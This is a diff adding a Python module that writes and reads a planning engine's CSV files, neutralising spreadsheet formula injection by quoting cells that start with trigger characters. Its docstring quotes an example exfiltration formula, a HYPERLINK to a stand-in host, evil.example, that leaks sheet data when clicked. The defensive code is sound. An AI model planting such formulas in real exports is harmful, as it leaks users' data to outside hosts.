@@ -1,0 +1,171 @@
+"""The one way the engine turns tables into CSV text, and reads its own CSV files back.
+
+Nothing a user writes becomes a spreadsheet formula. SKU ids, class, mode and variant names, scenario
+names and descriptions, and error messages quoting them reach plan.csv, audit.csv, frontier.csv,
+compare.csv and batch.csv. A spreadsheet (Excel, LibreOffice Calc, Google Sheets) evaluates a cell
+whose text starts with `=`, `+`, `-` or `@` (and, on some of them, TAB, CR, LF or the full-width forms
+＝ ＋ － ＠) as a formula: `=HYPERLINK("http://evil.example/?"&A1, "click")` sends the sheet's data
+away when clicked. Such ids are not refused (`-123` or `+A` may be real part numbers; a message
+cannot be refused), so they are NEUTRALISED ON WRITE, as the OWASP "CSV Injection" guidance says:
+
+- a STRING cell is neutralised when its first character, or its first character after leading
+  whitespace, is one of TRIGGERS (= + - @ TAB CR LF NUL ＝ ＋ － ＠): it is written with a single quote
+  `'` in front (`=1+2` -> `'=1+2`, `-123` -> `'-123`, ` @x` -> `' @x`);
+- so that reading back is exact, a string that already looks neutralised (one or more `'` followed
+  by such a text) gets one more `'` (`'=x` -> `''=x`); every other string is written as it is;
+- numbers are never changed: a negative number in a numeric column stays `-20` (only strings are
+  neutralised);
+- every cell is then quoted as RFC 4180 says (double quotes around a cell holding a comma, a double
+  quote or a line break; a double quote inside doubled), by Python's csv module;
+- enums are written by their value (`optimal`, never `SolveStatus.optimal`).
+
+`restore` undoes `neutralise` exactly (restore(neutralise(s)) == s for every string s), and
+`read_csv` applies it to every text cell, so what the engine reads back (compare reusing a finished
+run) is what it wrote.
+
+Every CSV writer of the engine goes through `csv_text` (a table) or `rows_text` (rows of plain values),
+and both through `cell`: a new writer that uses them cannot forget.
+"""
+
+from __future__ import annotations
+
+import enum
+from collections.abc import Iterable, Mapping, Sequence
+from typing import Any
+
+import numpy as np
+import pandas as pd
+
+TRIGGERS = frozenset("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")  # = + - @ TAB CR LF NUL and full-width ＝ ＋ － ＠
+QUOTE = "'"
+FLOAT_FORMAT = "%.10g"  # fixed: same numbers -> same bytes, whatever the platform or engine
+BOOLS = ("True", "False")  # how plan/frontier/audit write booleans (pandas' words); batch.csv uses true/false
+
+
+def dangerous(text: str) -> bool:
+    """True when a spreadsheet could take `text` for a formula: its first character, or its first
+    character after leading whitespace, is one of TRIGGERS."""
+    if not text:
+        return False
+    if text[0] in TRIGGERS:
+        return True
+    if text[0].isspace():
+        rest = text.lstrip()
+        return bool(rest) and rest[0] in TRIGGERS
+    return False
+
+
+def _looks_neutralised(text: str) -> bool:
+    return text.startswith(QUOTE) and dangerous(text.lstrip(QUOTE))
+
+
+def neutralise(text: str) -> str:
+    """`text` as a cell a spreadsheet shows as text: `'` in front when it is dangerous (or already
+    looks neutralised, so that `restore` is exact); otherwise unchanged."""
+    if text and (dangerous(text) or _looks_neutralised(text)):
+        return QUOTE + text
+    return text
+
+
+def restore(text: str) -> str:
+    """The text `neutralise` was given: one leading `'` removed from a neutralised cell."""
+    if _looks_neutralised(text):
+        return text[1:]
+    return text
+
+
+class _Neutralised(str):
+    """A cell text `neutralise` changed: always written inside double quotes."""
+
+
+def cell(value: Any, bools: tuple[str, str] = BOOLS) -> str:
+    """One cell's text: a string neutralised, an enum by its (neutralised) value, a bool as
+    bools[0] / bools[1], a float with FLOAT_FORMAT (-0.0 as 0, NaN as an empty cell), an integer as
+    itself, None / NA as an empty cell."""
+    if value is None:
+        return ""
+    if isinstance(value, enum.Enum):
+        value = value.value
+    if isinstance(value, str):  # numpy.str_ too
+        text = str(value)
+        out = neutralise(text)
+        return _Neutralised(out) if out != text else out
+    if isinstance(value, (bool, np.bool_)):
+        return bools[0] if value else bools[1]
+    if isinstance(value, (float, np.floating)):
+        return "" if value != value else FLOAT_FORMAT % (float(value) + 0.0)
+    if isinstance(value, (int, np.integer)):
+        return str(int(value))
+    try:
+        if pd.isna(value):
+            return ""
+    except (TypeError, ValueError):
+        pass
+    return cell(str(value), bools)
+
+
+def field(text: str) -> str:
+    """A cell text quoted as RFC 4180 says: inside double quotes (a double quote in it doubled)
+    when it holds a comma, a double quote, CR or LF, and always when it was neutralised."""
+    if isinstance(text, _Neutralised) or any(ch in text for ch in ',"\r\n'):
+        return '"' + text.replace('"', '""') + '"'
+    return text
+
+
+def _column(series: pd.Series, bools: tuple[str, str]) -> list[str]:
+    kind = series.dtype.kind
+    if kind == "f":
+        return ["" if v != v else FLOAT_FORMAT % (v + 0.0) for v in series.to_numpy().tolist()]
+    if kind in "iu":
+        return [str(v) for v in series.to_numpy().tolist()]
+    if kind == "b":
+        return [bools[0] if v else bools[1] for v in series.to_numpy().tolist()]
+    return [cell(v, bools) for v in series.astype(object).tolist()]
+
+
+def csv_text(table: pd.DataFrame, bools: tuple[str, str] = BOOLS) -> str:
+    """A table as CSV text, every cell through `cell` (strings neutralised, floats with FLOAT_FORMAT,
+    -0.0 written as 0, empty cells for missing values) and `field` (RFC 4180 quoting); no index,
+    `\\n` line ends, no timestamp: the same table always gives the same bytes."""
+    columns = [_column(table.iloc[:, i], bools) for i in range(table.shape[1])]
+    lines = [_line([cell(c, bools) for c in table.columns])]
+    lines += [_line(row) for row in zip(*columns)]
+    return "".join(lines)
+
+
+def _line(cells: Sequence[str]) -> str:
+    if len(cells) == 1 and cells[0] == "":
+        return '""\n'  # a lone empty cell, not an empty line (which readers skip)
+    return ",".join(field(c) for c in cells) + "\n"
+
+
+def rows_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]], bools: tuple[str, str] = BOOLS) -> str:
+    """Rows (mappings column -> plain value; a missing key is an empty cell) as CSV text, every cell
+    through `cell` and `field`, whatever its type: for tables built row by row, such as batch.csv."""
+    lines = [_line([cell(c, bools) for c in columns])]
+    lines += [_line([cell(row.get(c), bools) for c in columns]) for row in rows]
+    return "".join(lines)
+
+
+# Columns of the engine's files that hold names, never numbers: read as text, so that a SKU id `007`,
+# a class `1` or a mode `2024` comes back as that string.
+TEXT_COLUMNS = (
+    "sku", "class", "family", "mode", "note", "status", "method", "current_family", "current_mode",
+    "recommended_family", "recommended_mode", "demand_source", "demand_model", "demand_pattern", "demand_reason",
+    "scenario", "file", "folder", "message", "scenario_hash", "currency", "metric", "service_metric", "solver_status",
+)
+
+
+def read_csv(path, text_columns: Sequence[str] = TEXT_COLUMNS, **kwargs) -> pd.DataFrame:
+    """A CSV file the engine wrote, read back as it was written: `text_columns` kept as text (an id
+    `007`, `NA` or `-12` stays that string), only empty cells missing, and every text cell restored
+    (`'=x` -> `=x`). Other keyword arguments go to pandas.read_csv."""
+    kwargs.setdefault("keep_default_na", False)
+    kwargs.setdefault("na_values", [""])
+    table = pd.read_csv(path, dtype={c: str for c in text_columns}, **kwargs)
+    table.columns = [restore(c) for c in table.columns]
+    for i in range(table.shape[1]):
+        col = table.iloc[:, i]
+        if col.dtype.kind not in "biufcmM":  # text (object or pandas' string dtype)
+            table.isetitem(i, col.map(lambda v: restore(v) if isinstance(v, str) else v).astype(col.dtype))
+    return table
